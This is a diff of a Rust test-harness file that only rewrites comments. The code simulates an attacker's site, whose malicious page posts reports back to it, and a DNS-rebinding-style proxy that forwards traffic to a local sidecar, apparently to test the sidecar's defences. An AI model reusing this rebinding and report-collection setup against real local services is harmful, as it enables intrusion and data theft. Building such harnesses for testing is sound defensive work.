@@ -1,4 +1,4 @@
-//! What a page comes from: a site of its own, or a name that is led to the sidecar once the page was loaded.
+//! Serves the page: from a site of its own, or from a name that is rebound to the sidecar after the page has loaded.
 
 use std::collections::HashMap;
 use std::sync::{Arc, Mutex};
@@ -14,14 +14,14 @@ const PAGE: &str = include_str!("page.html");
 
 type Pages = Arc<Mutex<HashMap<String, String>>>;
 
-/// Somebody else's, which takes the reports too.
+/// An attacker's site, which also receives the reports.
 pub struct Site {
     pub port: u16,
     pub reports: mpsc::Receiver<Value>,
     pages: Pages,
 }
 
-/// An address that gives its pages itself and leads everything else to another, as a name does that changes its mind.
+/// An address that serves its pages itself and proxies the rest to another, like a rebound name.
 pub struct Led {
     pub port: u16,
     pages: Pages,
@@ -45,7 +45,7 @@ impl Site {
         }
     }
 
-    /// The page that does it all.
+    /// The malicious page.
     pub fn page(&self, name: &str, targets: Value, batch: &[u8]) -> String {
         let settings = json!({
             "name": name,
@@ -94,13 +94,13 @@ fn asked_for(pages: &Pages, request: &str) -> Option<String> {
     pages.lock().unwrap().get(path).cloned()
 }
 
-/// That is all that is said on the connection.
+/// The connection closes after the response.
 async fn give(tcp: &mut TcpStream, page: &str) {
     let answer = format!(
         "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{page}",
         page.len()
     );
-    // The browser may have gone on already.
+    // The browser may have closed early.
     tcp.write_all(answer.as_bytes()).await.unwrap_or_default();
 }
 
@@ -113,7 +113,7 @@ async fn serve(mut tcp: TcpStream, pages: Pages, report: mpsc::Sender<Value>) {
             continue;
         };
         if head.starts_with("POST /report ") {
-            // As long as it is not whole, it is no JSON.
+            // An incomplete body is not valid JSON.
             let Ok(whole) = serde_json::from_str(body) else {
                 continue;
             };
@@ -133,11 +133,11 @@ async fn lead(mut tcp: TcpStream, pages: Pages, host: String) {
     };
     let request = String::from_utf8_lossy(&start[..len]).into_owned();
     if let Some(page) = asked_for(&pages, &request) {
-        // What is left unread would reset the connection under the page.
+        // An unread body would reset the connection under the page.
         tcp.read_exact(&mut start[..len]).await.unwrap();
         return give(&mut tcp, &page).await;
     }
     let mut led = TcpStream::connect(&host).await.unwrap();
-    // Whichever side breaks it, the other sees it broken.
+    // If either side closes, so does the other.
     let _bytes = tokio::io::copy_bidirectional(&mut tcp, &mut led).await;
 }
